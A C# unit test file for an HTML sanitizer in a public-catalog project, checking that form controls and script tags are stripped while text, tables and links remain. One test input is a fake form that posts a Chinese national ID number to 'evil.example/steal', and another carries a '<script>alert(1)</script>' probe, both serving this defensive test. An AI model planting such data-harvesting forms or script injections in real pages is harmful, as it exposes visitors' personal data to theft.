using Gongkai.Catalog;

namespace Gongkai.Tests.Unit;

public sealed class SanitizerTests
{
    [Theory]
    [InlineData("<p>请填写：</p><form action=\"https://evil.example/steal\" method=\"post\"><input name=\"id\" placeholder=\"身份证号\"><button>提交</button></form>")]
    [InlineData("<p>选择：</p><select name=\"x\"><option>一</option></select><textarea name=\"t\">备注</textarea>")]
    [InlineData("<fieldset><legend>表</legend><label for=\"a\">甲</label><input id=\"a\" type=\"password\"></fieldset>")]
    public void Item_bodies_keep_no_form_controls(string html)
    {
        var clean = CatalogService.Sanitize(html);
        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<fieldset", "<label" })
        {
            Assert.DoesNotContain(tag, clean, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void Item_bodies_keep_their_text_tables_and_links()
    {
        var clean = CatalogService.Sanitize("<p>见<a href=\"https://www.gov.cn/zhengce/\">政策</a>。</p><table><tr><td>预算</td></tr></table><script>alert(1)</script>");
        Assert.Contains("<a href=\"https://www.gov.cn/zhengce/\">政策</a>", clean, StringComparison.Ordinal);
        Assert.Contains("<td>预算</td>", clean, StringComparison.Ordinal);
        Assert.DoesNotContain("script", clean, StringComparison.Ordinal);
    }
}
